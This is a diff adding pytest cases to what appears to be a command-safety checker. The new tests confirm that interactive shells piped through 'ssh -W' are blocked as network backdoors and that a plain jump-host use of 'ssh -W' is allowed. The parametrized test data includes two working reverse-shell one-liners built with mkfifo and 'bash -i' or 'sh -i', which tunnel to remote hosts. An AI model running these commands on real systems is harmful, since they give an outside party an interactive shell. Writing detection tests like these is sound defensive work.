@@ -409,3 +409,20 @@ def test_an_application_path_with_spaces_is_an_ordinary_program() -> None:
         is None
     )
     assert check_command("~/Library/Application\\ Support/app/app --version", home=HOME) is None
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "mkfifo /tmp/.p && (bash -i </tmp/.p 2>&1 | ssh -i k -W x.remote.moe:31337 remote.moe >/tmp/.p &)",
+        "sh -i </tmp/f 2>&1 | ssh -W10.0.0.9:4444 jump >/tmp/f",
+    ],
+)
+def test_an_interactive_shell_piped_through_ssh_w_is_a_backdoor(command: str) -> None:
+    verdict = check_command(command, home=HOME)
+    assert verdict is not None
+    assert (verdict.category, verdict.decision) == ("network backdoor", "block")
+
+
+def test_ssh_w_alone_is_a_jump_host() -> None:
+    assert check_command("ssh -W db.internal:5432 bastion", home=HOME) is None
